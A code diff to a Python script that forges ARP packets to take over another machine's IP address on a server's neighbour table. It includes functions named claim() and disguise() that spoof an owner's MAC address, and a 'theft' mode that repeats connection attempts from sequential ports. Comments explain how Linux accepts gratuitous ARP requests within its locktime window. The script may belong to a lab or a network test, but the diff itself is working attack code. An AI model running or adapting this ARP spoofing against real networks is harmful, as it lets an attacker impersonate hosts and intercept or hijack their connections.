@@ -58,16 +58,17 @@ def segments(until):
             yield dport, seq, flags, frame[start + (offset >> 4) * 4 : total]
 
 
+# Gratuitous requests: Linux accepts them also within a second of the last change of an entry (locktime).
 def claim():
-    arp(2, own_mac, claimed, b"\0" * 6, server, server_mac)
+    arp(1, own_mac, claimed, b"\0" * 6, claimed, server_mac)
 
 
 def disguise():
-    arp(2, mac(owner_mac), claimed, b"\0" * 6, server, server_mac)
+    arp(1, mac(owner_mac), claimed, b"\0" * 6, claimed, server_mac)
 
 
-def attempt():
-    sport, seq = random.randrange(20000, 60000), random.randrange(1 << 32)
+def attempt(sport):
+    seq = random.randrange(1 << 32)
     # A request creates the entry of the neighbour table, and the reply changes it.
     arp(1, own_mac, claimed, b"\0" * 6, server)
     claim()
@@ -121,8 +122,10 @@ for _ in range(50):
 assert server_mac != b"\xff" * 6, "the server does not answer ARP"
 
 if mode == "theft":
-    for _ in range(int(attempts)):
-        print(json.dumps(attempt()), flush=True)
+    # Each attempt is a connection of its own: with the ports of an earlier one, it would be the same.
+    first = random.randrange(20000, 50000)
+    for number in range(int(attempts)):
+        print(json.dumps(attempt(first + number)), flush=True)
 else:
     print(json.dumps({"ready": True}), flush=True)
     arp(1, own_mac, claimed, b"\0" * 6, server)
